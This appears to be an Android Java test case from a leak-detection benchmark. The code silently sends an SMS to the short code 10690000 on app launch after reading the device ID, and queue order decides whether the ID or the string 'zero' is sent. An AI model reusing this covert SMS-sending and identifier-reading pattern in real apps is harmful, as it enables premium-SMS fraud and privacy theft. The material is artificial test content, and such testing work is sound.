// about       The queue keeps the order: what was put first comes first.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayDeque;
import java.util.Queue;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    // Which kind of queue it is decides who comes first.
    Queue<String> queue = new ArrayDeque<String>();
    queue.add("zero");
    queue.add(phone.getDeviceId());
    SmsManager.getDefault().sendTextMessage("10690000", null, queue.poll(), null, null);
  }
}
